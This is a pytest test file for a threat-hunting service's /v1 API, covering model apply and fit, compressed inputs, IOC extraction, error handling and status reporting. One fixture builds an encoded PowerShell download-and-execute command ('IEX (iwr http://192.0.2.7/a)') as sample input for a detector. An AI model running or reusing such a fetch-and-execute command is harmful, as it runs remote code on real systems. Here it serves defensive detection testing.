"""/v1: rows alone, packed or not, for models with or without a fit."""

import csv
import gzip
import io
import json
import socket
import urllib.error
import urllib.parse
import urllib.request
from concurrent.futures import ThreadPoolExecutor

import pytest
import zstandard

from app.hunting import models
from tests.encoding import b64
from tests.running_service import TOKEN, RunningService, running_service, runs, wait_until

COMMAND = f"powershell -enc {b64('IEX (iwr http://192.0.2.7/a)')}"
ROWS = f"n,CommandLine\n1,{COMMAND}\n2,cmd.exe /c dir\n".encode()
FLAGSHIP = "/v1/models/powershell_ioc/apply?field=CommandLine"
UNLIMITED = """
    def init(df, param):
        return {}

    def fit(model, df, param):
        model["most"] = int(df["n"].max())

    def apply(model, df, param):
        return df["n"] / model["most"]

    def save(model, name):
        import json
        from app.settings import model_data_folder
        (model_data_folder() / f"{name}.json").write_text(json.dumps(model))

    def load(name):
        import json
        from app.settings import model_data_folder
        return json.loads((model_data_folder() / f"{name}.json").read_text())
"""


def ask(
    service: RunningService, path: str, data: bytes | None = None, **headers: str
) -> tuple[int, dict]:
    """Status and JSON of a /v1 request."""
    request = urllib.request.Request(service.url + path, data)
    for name, value in {"Authorization": f"Bearer {TOKEN}", **headers}.items():
        request.add_header(name.replace("_", "-"), value)
    try:
        with urllib.request.urlopen(request, context=service.trust(), timeout=60) as response:
            return response.status, json.load(response)
    except urllib.error.HTTPError as error:
        with error:
            return error.code, json.load(error)


def rows(answer: dict) -> list[dict[str, str]]:
    assert answer["status"] == "success", answer
    return list(csv.DictReader(io.StringIO(answer["results"])))


@pytest.mark.parametrize(
    "encoding, pack",
    [
        ("identity", lambda data: data),
        ("gzip", gzip.compress),
        ("zstd", zstandard.compress),
    ],
)
def test_apply_without_a_fit_takes_packed_rows(service, encoding, pack):
    status, answer = ask(service, FLAGSHIP, pack(ROWS), Content_Encoding=encoding)
    assert status == 200
    assert [(row["decode_status"], row["ioc_url"]) for row in rows(answer)] == [
        ("decoded", "http://192.0.2.7/a"),
        ("none", ""),
    ]


@pytest.mark.parametrize(
    "algo, column",
    [("ioc_extract", "ioc_ipv4"), ("ti_lookup", "ti_verdict"), ("ip_context", "asn")],
)
def test_annotating_models_need_no_fit(service, algo, column):
    answer = ask(service, f"/v1/models/{algo}/apply?field=ip", b"ip\n192.0.2.1\n")[1]
    assert column in rows(answer)[0]


def test_separator_joins_the_values_of_models_with_lists(service):
    data = b"text\nfrom 192.0.2.1 to 192.0.2.2\n"
    path = "/v1/models/ioc_extract/apply?field=text&separator=%EE%80%9F"
    assert rows(ask(service, path, data)[1])[0]["ioc_ipv4"] == "192.0.2.1\ue01f192.0.2.2"


def test_columns_that_were_sent_can_be_left_out(service):
    path = "/v1/models/ioc_extract/apply?field=text&only_new=true"
    (row,) = rows(ask(service, path, b"n,text\n1,192.0.2.1\n")[1])
    assert row["ioc_ipv4"] == "192.0.2.1"
    assert not {"n", "text"} & set(row)


def test_fitted_model_is_used_by_its_name(service):
    service.module("share", UNLIMITED)
    fitted = ask(service, "/v1/models/share/fit?model=most&field=n", b"n\n5\n10\n")[1]
    assert [row["n"] for row in rows(fitted)] == ["0.5", "1.0"]
    applied = ask(service, "/v1/models/share/apply?model=most&field=n", b"n\n20\n")[1]
    assert [row["n"] for row in rows(applied)] == ["2.0"]


def test_model_that_was_not_fitted_says_how_to_name_one(service):
    service.module("share", UNLIMITED)
    answer = ask(service, "/v1/models/share/apply?field=n", b"n\n20\n")[1]
    assert answer["status"] == "error"
    assert answer["message"].startswith("/apply: ERROR: unable to apply the model (share.py, line ")
    assert "name one that was: model=<name>" in answer["message"]


@pytest.mark.parametrize(
    "path, headers, status",
    [
        (FLAGSHIP, {"Content_Encoding": "br"}, 415),
        (FLAGSHIP, {"Authorization": "Bearer wrong"}, 401),
        (FLAGSHIP + "&model=..%2Fx", {}, 422),
        (FLAGSHIP + "&option=plain", {}, 422),
        ("/v1/models/powershell_ioc/save", {}, 422),
    ],
)
def test_requests_that_make_no_sense_are_refused(service, path, headers, status):
    assert ask(service, path, ROWS, **headers)[0] == status


@pytest.mark.parametrize(
    "path, data, headers, message",
    [
        (FLAGSHIP, b"x", {"Content_Encoding": "gzip"}, "Content-Encoding: gzip"),
        (FLAGSHIP, gzip.compress(ROWS)[:-9], {"Content_Encoding": "gzip"}, "its end is missing"),
        (FLAGSHIP, b"x" * 9, {"Content_Encoding": "zstd"}, "Content-Encoding: zstd"),
        (FLAGSHIP + "&option=colour=red", ROWS, {}, "unknown option 'colour'"),
        ("/v1/models/none/apply", ROWS, {}, "there is no module 'none'"),
    ],
)
def test_what_cannot_be_done_is_told_in_the_answer(service, path, data, headers, message):
    status, answer = ask(service, path, data, **headers)
    assert (status, answer["status"]) == (200, "error")
    assert message in answer["message"]


def test_chunks_run_side_by_side(service):
    chunks = [f"text\n192.0.2.{n}\n".encode() for n in range(8)]
    path = "/v1/models/ioc_extract/apply?field=text"
    with ThreadPoolExecutor(4) as pool:
        answers = list(pool.map(lambda chunk: rows(ask(service, path, chunk)[1]), chunks))
    assert [answer[0]["ioc_ipv4"] for answer in answers] == [f"192.0.2.{n}" for n in range(8)]


def test_hint_to_fit_is_given_where_the_model_cannot_be_applied(service):
    service.module("unlimited", UNLIMITED)
    unfitted = ask(service, "/v1/models/unlimited/apply", b"n\n1\n")[1]["message"]
    assert "name one that was: model=<name>" in unfitted
    unsent = ask(service, f"{FLAGSHIP}&option=hec%3Dtrue", ROWS)[1]["message"]
    assert "unable to send the findings to Splunk (hec=true). Ended with" in unsent


def test_models_are_listed(service):
    status, listed = ask(service, "/v1/models")
    assert status == 200
    assert [entry["model"] for entry in listed] == models.names()
    assert {"name", "default", "meaning"} == set(listed[0]["parameters"][0])


def test_lookup_answers_one_row_per_observable(service):
    wanted = ["192.0.2.1", 'http://example.com/?a="x",b']
    body = json.dumps({"observables": wanted}).encode()
    status, answer = ask(service, "/v1/lookup", body, Content_Type="application/json")
    assert status == 200
    assert [row["observable"] for row in rows(answer)] == wanted


def test_status_tells_what_waits_for_splunk_and_a_worker_that_works(tmp_path):
    with running_service(tmp_path, api_workers="1") as own:
        spool = tmp_path / "app" / "spool" / "x"
        spool.mkdir(parents=True)
        (spool / "1.hec.gz").write_bytes(b"")
        (spool / "2.hec.rejected").write_bytes(b"")
        status, listed = ask(own, "/v1/status")
    told = {entry["name"]: (entry["state"], entry["remarks"]) for entry in listed}
    assert status == 200
    assert told["spool"] == ("warning", "1 batches wait, 1 were rejected")
    assert told["workers"] == ("ok", "1 of 1 run, 0 of them a search")


def test_openapi_describes_every_route(service):
    described = ask(service, "/v1/openapi.json")[1]
    assert set(described["paths"]) == {
        "/v1/models",
        "/v1/models/{algo}/{command}",
        "/v1/lookup",
        "/v1/status",
    }
    posted = described["paths"]["/v1/models/{algo}/{command}"]["post"]
    assert {"200", "401", "415", "422"} <= set(posted["responses"])


def test_request_that_is_hung_up_ends_its_job(tmp_path):
    with running_service(api_workers="1") as own:
        own.module("slow", "def init(df, param):\n    import os, time, pathlib\n"
                   f"    pathlib.Path({str(tmp_path / 'pid')!r}).write_text(str(os.getpid()))\n"
                   "    time.sleep(60)\n\ndef apply(model, df, param):\n    return df\n")  # fmt: skip
        parts = urllib.parse.urlsplit(own.url)
        with (
            socket.create_connection((parts.hostname, parts.port)) as plain,
            own.trust().wrap_socket(plain, server_hostname=parts.hostname) as line,
        ):
            line.sendall(
                f"POST /v1/models/slow/apply HTTP/1.1\r\nHost: x\r\nAuthorization: {TOKEN}\r\n"
                "Content-Length: 4\r\n\r\na\n1\n".encode()
            )
            wait_until(lambda: (tmp_path / "pid").is_file() and (tmp_path / "pid").read_text())
            pid = int((tmp_path / "pid").read_text())
            assert runs(pid)
        wait_until(lambda: not runs(pid))
